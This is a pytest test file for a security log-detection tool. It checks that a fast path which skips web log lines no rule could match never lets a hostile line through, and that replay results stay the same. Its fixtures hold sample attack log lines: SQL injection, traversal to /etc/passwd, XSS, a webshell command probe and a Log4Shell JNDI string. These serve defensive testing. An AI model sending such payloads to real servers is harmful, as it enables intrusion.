"""The replay's quiet web path (issue 20): a web line is counted without building its event only when no rule
could match that event, and the replay's results are the same with and without the path.

Hostile lines (encoded attacks, backslashes, control characters, non-ASCII, impossible dates, bad addresses,
quotes in odd places) must never be waved through: each line the path calls quiet is normalized and run
through the bundled rules here, and none may alert."""
from __future__ import annotations

import calendar
import datetime as dt
import random
import re

import pytest

from secops.detect import Detector, _alternation, load_rules
from secops.normalize import NGINX_CARRIERS, Normalizer, Rejected
from secops.replay import replay
from secops.respond import Allowlist

BENIGN = [
    b'36.99.170.2 - - [02/Nov/2026:00:00:00 +0800] "GET /bsfw/grbs/index.html HTTP/1.1" 200 34445 '
    b'"https://www.a0000.jz.gov.cn/" "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"',
    b'101.106.86.2 - alice [02/Nov/2026:10:11:12 +0800] "POST /login?redirect=%2Fuser%2Fcenter HTTP/2.0" 302 0 '
    b'"-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"',
    b'2001:db8::7 - - [02/Nov/2026:10:11:13 +0800] "GET /search?q=%E5%85%AC%E7%A7%AF%E9%87%91+%E6%8F%90%E5%8F%96 '
    b'HTTP/1.1" 200 512 "-" "curl/8.5.0"',
    b'113.99.31.2 - - [02/Nov/2026:10:11:14 +0800] "GET / HTTP/1.1" 200 - "-" "-"',
    b'113.99.31.3 - - [02/Nov/2026:10:11:15 +0800] "HEAD /images/banner_1000.jpg" 304 -',
]
ATTACKS = [
    b'45.1.2.3 - - [02/Nov/2026:10:12:00 +0800] "GET /news?id=1+union+select+1,2 HTTP/1.1" 200 10 "-" "curl/8"',
    b'45.1.2.3 - - [02/Nov/2026:10:12:00 +0800] "GET /news?id=1%20UNION%20SELECT%201 HTTP/1.1" 200 10 "-" "x"',
    b'45.1.2.4 - - [02/Nov/2026:10:12:01 +0800] "GET /a/..%2f..%2fetc/passwd HTTP/1.1" 404 10 "-" "x"',
    b'45.1.2.5 - - [02/Nov/2026:10:12:02 +0800] "GET /q?x=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 1 "-" "x"',
    b'45.1.2.6 - - [02/Nov/2026:10:12:03 +0800] "GET /up/shell.php HTTP/1.1" 200 1 "-" "x"',
    b'45.1.2.7 - - [02/Nov/2026:10:12:04 +0800] "GET / HTTP/1.1" 200 1 "-" "sqlmap/1.7#stable (https://sqlmap.org)"',
    b'45.1.2.8 - - [02/Nov/2026:10:12:05 +0800] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://x/a}"',
    b'45.1.2.9 - - [02/Nov/2026:10:12:06 +0800] "GET /SOLR/admin/Cores?action=CREATE HTTP/1.1" 200 1 "-" "x"',
    b'45.1.2.10 - - [02/Nov/2026:10:12:07 +0800] "GET /x.PhP?cmd=whoami HTTP/1.1" 200 1 "-" "x"',
    b'45.1.2.11 - - [02/Nov/2026:10:12:08 +0800] "GET / HTTP/1.1" 200 1 "-" "Mozilla \\"Nikto\\""',
]


def _mutations(rnd: random.Random, lines: list[bytes], n: int) -> list[bytes]:
    """Lines cut, repeated and seasoned with what parsers trip on."""
    pieces = [b'"', b"\\", b" ", b"\t", b"\x01", b"\x7f", b"%", b"+", b"%2e%2e/", b"\xe4\xb8\xad", b"\xff", b"[", b"]",
              b"::ffff:", b"999.1.1.1", b"31/Feb/2026:10:00:00", b"24:00:00", b"/cmd.php", b"nikto", b"?", b"-",
              b"99999999999999999999999", b" HTTP/1.1", b'" "']
    out = []
    for _ in range(n):
        line = bytearray(rnd.choice(lines))
        for _ in range(rnd.randint(1, 3)):
            at = rnd.randrange(len(line) + 1)
            kind = rnd.random()
            if kind < 0.6:
                line[at:at] = rnd.choice(pieces)
            elif kind < 0.8:
                del line[at:at + rnd.randint(1, 6)]
            else:
                line[at:at] = line[max(0, at - 8):at]
        out.append(bytes(line))
    return out


@pytest.fixture(scope="module")
def rules():
    return load_rules()


def test_a_quiet_line_is_an_event_no_rule_matches(rules):
    detector = Detector(rules)
    normalizer = Normalizer(year=2026)
    quiet = normalizer.quiet_web(detector.carried_screens("nginx.access", NGINX_CARRIERS))
    assert quiet is not None

    def alone(raw: bytes) -> str | None:  # the reader on a block of this one line: its source if quiet
        sources: set[str] = set()
        loud = quiet([raw], sources)
        assert (loud, len(sources)) in (([raw], 0), ([], 1))
        return sources.pop() if sources else None

    corpus = BENIGN + ATTACKS + _mutations(random.Random(20), BENIGN + ATTACKS, 6000)
    waved = 0
    for raw in corpus:
        source = alone(raw)
        event = normalizer.normalize(raw)
        if source is None:
            continue
        waved += 1
        assert event.__class__ is not Rejected, raw
        assert event["source.ip"] == source, raw
        before = len(detector.alerts)
        detector.process(event)
        assert len(detector.alerts) == before, raw  # no rule could have matched it
    assert waved > 300  # the path does take the usual lines, mutated ones too
    for raw in BENIGN:
        assert alone(raw) is not None, raw
    for raw in ATTACKS:
        assert alone(raw) is None, raw
    assert alone(b"") is None and alone(b"9") is None


def _one_by_one(quiet, lines: list[bytes]) -> tuple[list[bytes], set[str]]:
    """What the reader says of each line given alone: the loud lines, the quiet lines' sources."""
    loud, sources = [], set()
    for raw in lines:
        loud += quiet([raw], sources)
    return loud, sources


def test_a_block_reads_as_its_lines_one_by_one(rules):
    """The reader reads a block's lines joined: no line's fields may reach into the next one."""
    quiet = Normalizer(year=2026).quiet_web(Detector(rules).carried_screens("nginx.access", NGINX_CARRIERS))
    split_across = [  # a line's bracket, quote or agent closed only on the next line
        b'45.1.2.3 - - [02/Nov/2026:10:12:00 +0800', b'] "GET / HTTP/1.1" 200 10 "-" "curl/8"',
        b'45.1.2.4 - - [02/Nov/2026:10:12:00 +0800] "GET /ok HTTP/1.1" 200 10 "-" "sqlmap', b'/1.7"',
        b'45.1.2.5 - - [02/Nov/2026:10:12:00 +0800] "GET /ok HTTP/1.1" 200 10 "-', b'" "nikto"', b"",
    ]
    corpus = split_across + BENIGN + ATTACKS + _mutations(random.Random(5), BENIGN + ATTACKS + split_across, 6000)
    sources: set[str] = set()
    loud = quiet(corpus, sources)
    assert (loud, sources) == _one_by_one(quiet, corpus)
    assert len(loud) > 1000 and len(corpus) - len(loud) > 300
    assert quiet([]) == []
    # blocks of printable ASCII lines only, read as one text unless a field runs on past its line
    clean = [raw for raw in corpus if all(32 <= c < 127 for c in raw) and b"\\" not in raw]
    rnd = random.Random(9)
    for _ in range(40):
        at = rnd.randrange(len(clean))
        block = clean[at:at + rnd.randint(1, 400)]
        sources = set()
        assert (quiet(block, sources), sources) == _one_by_one(quiet, block)
    # an agent whose quote closes only on the next line is not read across it, as normalize does not read it
    sources = set()
    assert quiet(split_across[2:4], sources) == [split_across[3]] and sources == {"45.1.2.4"}
    assert "user_agent.original" not in Normalizer(year=2026).normalize(split_across[2])


def test_replay_gives_the_same_results_with_and_without_the_quiet_path(rules, tmp_path, monkeypatch):
    rnd = random.Random(7)
    web = tmp_path / "web.log"
    lines = [rnd.choice(BENIGN) for _ in range(3000)] + ATTACKS * 3 + _mutations(rnd, BENIGN + ATTACKS, 2000)
    rnd.shuffle(lines)
    web.write_bytes(b"\n".join(lines) + b"\n")

    def run() -> dict:
        result = replay([web], rules, Allowlist([]), year=2026)
        result.pop("seconds"), result.pop("lines_per_second")
        return result

    with_path = run()
    monkeypatch.setattr(Normalizer, "quiet_web", lambda self, screens: None)
    without = run()
    assert with_path == without
    assert {a["rule"] for a in with_path["alerts"]} >= {"web_sql_injection", "web_path_traversal", "web_xss",
                                                       "web_webshell", "web_scanner_user_agent", "web_exploit_probe"}
    assert sum(with_path["unparsed"].values()) > 0  # the mutations include lines both paths refuse


def test_no_quiet_path_when_a_rule_needs_a_field_the_path_does_not_hold(tmp_path):
    (tmp_path / "referrer.yml").write_text(
        "title: Evil referrer\nname: evil_referrer\nlogsource: {category: webserver}\n"
        "detection:\n  sel:\n    http.request.referrer|contains: evil\n  condition: sel\nlevel: low\n")
    (tmp_path / "status.yml").write_text(
        "title: Server errors\nname: server_errors\nlogsource: {category: webserver}\n"
        "detection:\n  sel:\n    http.response.status_code: 500\n  condition: sel\nlevel: low\n")
    for name in ("referrer.yml", "status.yml"):
        rules = load_rules([tmp_path / name])
        assert not rules.errors
        assert Detector(rules).carried_screens("nginx.access", NGINX_CARRIERS) is None, name
    assert Normalizer(fmt="syslog").quiet_web({}) is None
    assert Normalizer(encoding="gbk").quiet_web({}) is None


def test_the_screens_trie_finds_what_a_plain_alternation_finds():
    rnd = random.Random(3)
    for _ in range(400):
        texts = ["".join(rnd.choice("ab.c(") for _ in range(rnd.randint(1, 5))) for _ in range(rnd.randint(1, 8))]
        trie, plain = _alternation(texts), re.compile("|".join(map(re.escape, texts)))
        for _ in range(10):
            value = "".join(rnd.choice("ab.c(d") for _ in range(rnd.randint(0, 12)))
            assert (trie.search(value) is None) == (plain.search(value) is None), (texts, value)
    deep = _alternation(["a" * n for n in range(1, 600)])  # nested deeper than the regex compiler goes
    assert deep.search("xay") and not deep.search("xyz")


def test_time_stamps_read_per_day_equal_datetime():
    rnd = random.Random(11)
    for tz in (0, 8 * 3600):
        normalizer = Normalizer(year=2026, tz_offset=tz)
        for _ in range(5000):
            day, hh, mm, ss = rnd.randint(0, 32), rnd.randint(0, 25), rnd.randint(0, 61), rnd.randint(0, 61)
            month, number = rnd.choice([("Feb", 2), ("Nov", 11), ("Dec", 12)])  # no January: no new year
            try:
                expected = float(calendar.timegm(dt.datetime(2026, number, day, hh, mm, ss).timetuple()))
            except ValueError:
                expected = None
            clf = normalizer._clf_time(f"{day:02d}/{month}/2026:{hh:02d}:{mm:02d}:{ss:02d} +0800")
            assert clf == (None if expected is None else expected - 8 * 3600)
            bsd = normalizer._bsd_time(f"{month} {day:2d} {hh:02d}:{mm:02d}:{ss:02d}")
            assert bsd == (None if expected is None else expected - tz)


def test_a_screen_searched_over_joined_values_finds_what_it_finds_in_each():
    """FieldScreen.lines_found (a block's distinct URLs or agents as one text) against finds, value by value."""
    from secops.detect import FieldScreen
    rnd = random.Random(4)
    alphabet = "abAB.c(/%-"
    for _ in range(300):
        words = ["".join(rnd.choice(alphabet) for _ in range(rnd.randint(1, 4))).lower() for _ in range(6)]
        texts = {(rnd.choice(["lower", "nocase"]), word) for word in words[:rnd.randint(1, 6)]}
        screen = FieldScreen("url", texts)
        values = ["".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 14))) for _ in range(rnd.randint(1, 30))]
        found = screen.lines_found("\n".join(values).encode())
        assert found == {i for i, v in enumerate(values) if screen.finds(v)}, (texts, values)
    # a text outside printable ASCII: case folding could find it where bytes do not (the Kelvin sign is a K)
    assert FieldScreen("agent", {("nocase", "\u212a")}).lines_found(b"k") is None
    assert FieldScreen("agent", {("nocase", "\u212a")}).finds("k")
